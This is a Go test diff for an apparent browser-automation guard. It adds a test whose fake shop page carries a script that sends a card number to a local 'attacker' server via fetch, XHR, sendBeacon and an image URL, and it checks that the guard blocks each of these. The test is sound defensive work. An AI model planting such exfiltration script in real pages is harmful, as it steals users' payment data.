@@ -10,6 +10,7 @@ import (
 	"sync"
 	"sync/atomic"
 	"testing"
+	"time"
 )
 
 // guardSites is a blog on one origin whose links, form and redirect lead
@@ -175,5 +176,78 @@ func TestSecretsCookiesAndMaskedFields(t *testing.T) {
 		if !ok {
 			t.Errorf("%q not among %+v", v, got)
 		}
+	}
+}
+
+// TestGuardHoldsScriptRequests: what a page's script sends — fetch, XHR,
+// a beacon, an added image — is held for the check too, marked as the
+// script's; a refused one never reaches the server, and the page's own
+// requests to its site go on.
+func TestGuardHoldsScriptRequests(t *testing.T) {
+	t.Parallel()
+	var hits atomic.Int32
+	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
+	t.Cleanup(attacker.Close)
+	away := strings.Replace(attacker.URL, "127.0.0.1", "localhost", 1)
+	var own atomic.Int32
+	mux := http.NewServeMux()
+	mux.HandleFunc("/api", func(w http.ResponseWriter, r *http.Request) { own.Add(1); fmt.Fprint(w, "ok") })
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprintf(w, `<!doctype html><title>Shop</title><p id="out"></p>
+<button onclick="send()">Send</button>
+<script>
+async function send() {
+  await fetch('%[1]s/f', { method: 'POST', body: 'card=4111' }).catch(() => {});
+  const x = new XMLHttpRequest(); x.open('POST', '%[1]s/x'); x.send('card=4111');
+  navigator.sendBeacon('%[1]s/b', 'card=4111');
+  new Image().src = '%[1]s/i?card=4111';
+  await fetch('/api');
+  document.getElementById('out').textContent = 'sent';
+}
+</script>`, away)
+	})
+	shop := httptest.NewServer(mux)
+	t.Cleanup(shop.Close)
+	ctx := tctx(t)
+	tab, err := testBrowser.Open(ctx, shop.URL+"/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { tab.Close(context.Background()) })
+	var mu sync.Mutex
+	kinds := map[string]bool{}
+	stop, err := tab.Guard(ctx, func(ctx context.Context, r Request) error {
+		if !strings.Contains(r.URL, "localhost") {
+			return nil
+		}
+		mu.Lock()
+		kinds[r.URL[strings.LastIndex(r.URL, "/")+1:][:1]] = r.Script
+		mu.Unlock()
+		return errors.New("off the sites")
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer stop()
+	obs, err := tab.Observe(ctx, ObserveOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := tab.Click(ctx, find(t, obs, "button", "Send").Ref); err != nil {
+		t.Fatal(err)
+	}
+	if w, err := tab.Wait(ctx, WaitFor{Text: "sent"}, 10*time.Second); err != nil || !w.Met {
+		t.Fatalf("the page's script did not finish: %+v, %v", w, err)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	for _, k := range []string{"f", "x", "b", "i"} {
+		if !kinds[k] {
+			t.Errorf("request /%s: held as the script's %v (%v)", k, kinds[k], kinds)
+		}
+	}
+	if hits.Load() != 0 || own.Load() != 1 {
+		t.Fatalf("the attacker got %d requests, the site's own API %d", hits.Load(), own.Load())
 	}
 }
